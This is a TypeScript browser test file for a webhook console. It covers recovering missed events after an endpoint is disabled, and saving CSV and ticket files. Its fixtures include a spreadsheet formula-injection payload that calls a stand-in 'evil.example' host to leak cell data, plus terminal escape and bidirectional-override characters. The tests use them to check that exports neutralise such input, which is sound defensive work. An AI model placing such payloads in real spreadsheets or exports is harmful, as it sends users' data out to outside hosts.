/**
 * "What did I lose last night, and is it back?" in a real browser on a real service: an endpoint answers 410 and is
 * disabled, events are missed, the gap is seen, counted and brought back. And lists are saved as CSV, and a delivery as a
 * file for a ticket, with hostile texts in them.
 */
import { readFile } from 'node:fs/promises';
import type { BrowserContext, Page } from 'playwright-core';
import { beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { eventually } from '../support/eventually.ts';
import { faultsOf } from './support/console-browser.ts';
import { HOSTILE } from './support/console-service.ts';
import { consoleSuite, FLOW_MAX_MS, HAS_BROWSER, SCREENS, WAIT_MAX_MS } from './support/console-suite.ts';
import { parsedCsv } from './support/parsed-csv.ts';

const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"open")';
/** Three endpoints get each of these events, and a page has 100 deliveries. */
const MORE_THAN_A_PAGE = 40;
/** Parts of a response that is sent slowly: a replay waits for its attempts. */
const SLOW = Array.from({ length: 40 }, () => '.');

const suite = consoleSuite();

const send = (event: string) => suite.service.sim('trigger', event, '--wait', '0s');
const atShop = () => suite.service.receiver.arrivals.filter((arrival) => arrival.path === '/shop');
const statusOfShop = async () =>
  ((await suite.service.sim('endpoints', 'get', suite.service.endpoints.shop)) as { status: string }).status;

/** One event is refused, which disables the endpoint; two more come while it is disabled. */
async function loseThree(): Promise<void> {
  suite.service.receiver.answerAt('/shop', { status: 410, body: '' });
  await send('KYC/FULL_USER');
  await eventually('it is disabled', async () => (await statusOfShop()) === 'auto_disabled', WAIT_MAX_MS);
  await send('fiatToCrypto/PENDING');
  await send('fiatToCrypto/PENDING');
}

interface Made {
  readonly delivery_uuid: string;
  readonly event_uuid: string;
  readonly trigger: string;
}

/** Returns the deliveries to the shop that replays made, as the session of a browser reads them. */
async function replayed({ request }: BrowserContext): Promise<readonly Made[]> {
  const { hookrail, endpoints } = suite.service;
  const query = new URLSearchParams({ endpoint_uuid: endpoints.shop, limit: '100' });
  const response = await request.get(`${hookrail.apiUrl}/merchant/deliveries?${query}`);
  const { data } = (await response.json()) as { readonly data: readonly Made[] };
  return data.filter(({ trigger }) => trigger === 'replay');
}

/** Ends each session of the merchant, as the platform does. */
async function endSessions(): Promise<void> {
  const { merchantId, platformKey } = suite.service.setup;
  const path = `/platform/merchants/${merchantId}/portal-sessions`;
  const headers = { authorization: `API-Key ${platformKey}` };
  const response = await fetch(suite.service.hookrail.apiUrl + path, { method: 'DELETE', headers });
  expect(response.status).toBe(200);
}

async function saved(page: Page, button: string) {
  const download = page.waitForEvent('download');
  await page.getByRole('button', { name: button }).click();
  const file = await download;
  return { name: file.suggestedFilename(), text: await readFile(await file.path(), 'utf8') };
}

describe.skipIf(!HAS_BROWSER)('Missed', { timeout: FLOW_MAX_MS }, () => {
  test('says that nothing was missed, and since when', async () => {
    const { page, faults, context } = await suite.signedIn({});
    await page.getByRole('link', { name: 'Missed', exact: true }).click();
    await page.getByText(/^Nothing was missed since .*\d\d:\d\d\.$/).waitFor();
    await page.getByText('This endpoint missed nothing in the window.').waitFor();
    expect(await page.getByRole('button', { name: /back$/ }).count()).toBe(0);
    expect(faults).toEqual([]);
    await context.close();
  });

  describe.each(SCREENS)('on a screen of %i pixels, %s', (width, colorScheme) => {
    beforeEach(async () => {
      await loseThree();
      await suite.service.sim('clock', 'advance', '1h');
    }, FLOW_MAX_MS);

    test('shows what was lost last night, and brings it back', async () => {
      const { page, faults, context } = await suite.signedIn({
        viewport: { width, height: 800 },
        colorScheme,
      });
      await page.getByRole('link', { name: 'Missed', exact: true }).click();
      const lane = page.locator('.lanes li.chosen');
      await lane.getByText('3 still missing').waitFor();
      await lane.getByText('auto disabled').waitFor();
      expect(await lane.getByRole('img').getAttribute('aria-label')).toMatch(/missed in \d dark spells?$/);
      await page.getByText('3 events of this range are missing.').waitFor();
      await page.getByText('the endpoint was disabled: 2 · your server answered 410: 1').last().waitFor();
      await page.getByText('fiatToCrypto: 2 · KYC: 1').waitFor();
      await page.getByText('Its last failure was endpoint_gone: mend your server first.').waitFor();
      expect(await faultsOf(page)).toEqual([]);

      suite.service.receiver.answerAt('/shop', { status: 200, body: SLOW });
      const before = atShop().length;
      await page.getByRole('button', { name: 'Enable the endpoint, and bring these 3 back' }).click();
      await page.getByRole('progressbar', { name: 'Events sent' }).waitFor();
      await page.reload();
      await page.getByRole('progressbar', { name: 'Events sent' }).waitFor();
      expect(
        await page
          .getByRole('button', { name: /back$/ })
          .isEnabled()
          .catch(() => false),
      ).toBe(false);
      await page.getByText('3 of 3 events sent').first().waitFor();
      await page.getByText('Nothing of this range is missing.').waitFor();
      await lane.getByText('none still missing').waitFor();
      await page.getByText('Deliveries of the newest replay: delivered: 3.').waitFor();
      expect(atShop().length - before).toBe(3);
      expect(await statusOfShop()).toBe('active');
      expect(await faultsOf(page)).toEqual([]);

      await page.locator('.made a').first().click();
      await page.locator('.facts .chip', { hasText: 'replay' }).waitFor();
      await page.goBack();
      await page.getByText('Nothing of this range is missing.').waitFor();
      expect(faults).toEqual([]);
      await context.close();
    });
  });

  test('brings each event back once when two tabs press at the same time', async () => {
    await loseThree();
    const { page, context } = await suite.signedIn({}, {}, 'Missed');
    const other = await context.newPage();
    await other.goto(page.url());
    const tabs = [page, other];
    for (const tab of tabs) await tab.getByText('3 events of this range are missing.').waitFor();
    const before = new Set((await replayed(context)).map(({ delivery_uuid: id }) => id));
    suite.service.receiver.answerAt('/shop', { status: 200, body: SLOW });
    const bring = 'Enable the endpoint, and bring these 3 back';
    await Promise.all(tabs.map((tab) => tab.getByRole('button', { name: bring }).click()));
    for (const tab of tabs) await tab.getByText('Nothing of this range is missing.').waitFor();
    const made = (await replayed(context)).filter(({ delivery_uuid: id }) => !before.has(id));
    expect(made.length).toBe(3);
    expect(new Set(made.map(({ event_uuid: id }) => id)).size).toBe(3);
    await context.close();
  });

  test('says that the session has ended while it is open, and shows the same range with a new link', async () => {
    await loseThree();
    const { page, context } = await suite.signedIn({}, {}, 'Missed');
    await page.getByText('3 events of this range are missing.').waitFor();
    await page.getByLabel('From, on the time line').press('Home');
    await page.waitForURL(/since=/);
    const place = page.url();
    await endSessions();
    await page.getByRole('button', { name: /back$/ }).click();
    await page.getByText('Your session has ended.').waitFor();
    expect(await page.getByText('missing').count()).toBe(0);
    expect(await statusOfShop()).toBe('auto_disabled');
    await page.goto(await suite.service.link());
    await page.getByRole('button', { name: 'Open' }).click();
    await page.waitForURL(place);
    await page.getByText('3 events of this range are missing.').waitFor();
    suite.service.receiver.answerAt('/shop', { status: 200, body: '' });
    await page.getByRole('button', { name: /back$/ }).click();
    await page.getByText('Nothing of this range is missing.').waitFor();
    await context.close();
  });

  test('counts the range that the fields and the sliders choose, which the address keeps', async () => {
    await loseThree();
    const { page, faults, context } = await suite.signedIn({});
    await page.getByRole('link', { name: 'Missed', exact: true }).click();
    await page.getByText('3 events of this range are missing.').waitFor();
    const field = page.getByLabel('To', { exact: true });
    const end = await field.inputValue();
    await field.fill(await page.getByLabel('From', { exact: true }).inputValue());
    await page.getByText('The range ends before it begins.').waitFor();
    await field.fill(end);
    await page.getByLabel('From, on the time line').press('Home');
    await page.waitForURL(/since=/);
    await page.getByText('3 events of this range are missing.').waitFor();
    await page.getByLabel('To, on the time line').press('Home');
    await page.getByLabel('To, on the time line').press('PageUp');
    await page.getByText('Nothing of this range is missing.').waitFor();
    await page.reload();
    await page.getByText('Nothing of this range is missing.').waitFor();
    expect(faults).toEqual([]);
    await context.close();
  });

  test('lets a session that only looks see the gap, and says why it brings nothing back', async () => {
    const { page, faults, context } = await suite.signedIn({}, { access: 'read' });
    await page.getByRole('link', { name: 'Missed', exact: true }).click();
    await page
      .locator('.lanes')
      .getByText(/\d+ missed$/)
      .waitFor();
    await page.getByText(/^Your link is read-only\. Ask .* to count what is still missing/).waitFor();
    expect(await page.getByRole('button', { name: /back$/ }).count()).toBe(0);
    expect(faults).toEqual([]);
    await context.close();
  });
});

describe.skipIf(!HAS_BROWSER)('a file', { timeout: FLOW_MAX_MS }, () => {
  let formula: string;
  beforeAll(async () => {
    const line = ['--url', `${suite.service.receiver.url}/formula`, '--description', FORMULA];
    suite.service.receiver.answerAt('/formula', { status: 500, body: `\`\`\`\n# ${HOSTILE}\u001b[2J` });
    formula = ((await suite.service.sim('endpoints', 'create', ...line)) as { uuid: string }).uuid;
    await send('KYC/FULL_USER');
    await send('KYB/ACTIVE');
  }, FLOW_MAX_MS);

  test('of a list has all its rows by the filters, and no formula of a stranger', async () => {
    const { page, faults, context } = await suite.signedIn({ acceptDownloads: true });
    await page.getByLabel('Endpoint').selectOption(formula);
    await page.getByLabel('Failed only').check();
    await eventually(
      'both have failed',
      async () => (await page.locator('.all-rows .line').count()) === 2,
      WAIT_MAX_MS,
    );
    const { name, text } = await saved(page, 'CSV');
    expect(name).toMatch(/^test-merchant_failed_\d{8}t\d{6}z_\d{8}t\d{6}z_saved_\d{8}t\d{6}z\.csv$/);
    expect(text.startsWith('\ufeffcreated_at,')).toBe(true);
    const [names = [], ...rows] = parsedCsv(text, ',');
    expect(rows.length).toBe(2);
    const cell = (column: string) => rows.map((row) => row[names.indexOf(column)]);
    expect(cell('endpoint')).toEqual([`'${FORMULA}`, `'${FORMULA}`]);
    expect(cell('result')).toEqual(['failed', 'failed']);
    expect(cell('subType').sort()).toEqual(['ACTIVE', 'FULL_USER']);
    await page.getByText('2 rows saved.').waitFor();
    expect(faults).toEqual([]);
    await context.close();
  });

  test('of all that happened has the pages behind the first, and what was not sent', async () => {
    for (let sent = 0; sent < MORE_THAN_A_PAGE; sent += 1) await send('cryptoToFiat/PENDING');
    const { page, faults, context } = await suite.signedIn({ acceptDownloads: true });
    const [names = [], ...rows] = parsedCsv((await saved(page, 'CSV')).text, ',');
    const results = new Set(rows.map((row) => row[names.indexOf('result')]));
    const isListed = (row: readonly string[]) =>
      row[names.indexOf('type')] === 'cryptoToFiat' && row[names.indexOf('endpoint_uuid')] === formula;
    expect(rows.filter(isListed).length).toBe(MORE_THAN_A_PAGE);
    for (const result of ['failed', 'filtered', 'delivered']) expect(results).toContain(result);
    expect(new Set(rows.map((row) => row.join())).size).toBe(rows.length);
    expect(faults).toEqual([]);
    await context.close();
  });

  test('of a delivery for a ticket has what was sent and answered, without the secret, and one of a story its rows', async () => {
    const { page, faults, context } = await suite.signedIn({ acceptDownloads: true });
    await page.getByLabel('Endpoint').selectOption(formula);
    await page.getByLabel('Type').selectOption('KYC');
    await page.getByLabel('Failed only').check();
    await page.locator('.all-rows .line .whole').first().click();
    await page.locator('.schedule').waitFor();
    const { name, text } = await saved(page, 'Save for a ticket');
    expect(name).toMatch(/^delivery_[0-9a-f-]{36}_\d{8}t\d{6}z\.md$/);
    expect(text).toContain('# Webhook KYC/FULL_USER: failed');
    expect(text).toContain(`${suite.service.receiver.url}/formula`);
    expect(text).toContain('webhook-signature: v1,');
    expect(text).toContain(HOSTILE.replace('\u202e', String.raw`\u202e`));
    expect(text).not.toMatch(/authorization|whsec_/i);
    for (const character of ['\u001b', '\u202e']) expect(text).not.toContain(character);

    await page.getByRole('link', { name: 'The whole story' }).click();
    await page.locator('.story').waitFor();
    const [names = [], ...rows] = parsedCsv((await saved(page, 'CSV')).text, ',');
    const endpoints = rows.map((row) => row[names.indexOf('endpoint_uuid')]);
    expect(endpoints.sort()).toEqual([formula, ...Object.values(suite.service.endpoints)].sort());
    expect(faults).toEqual([]);
    await context.close();
  });
});
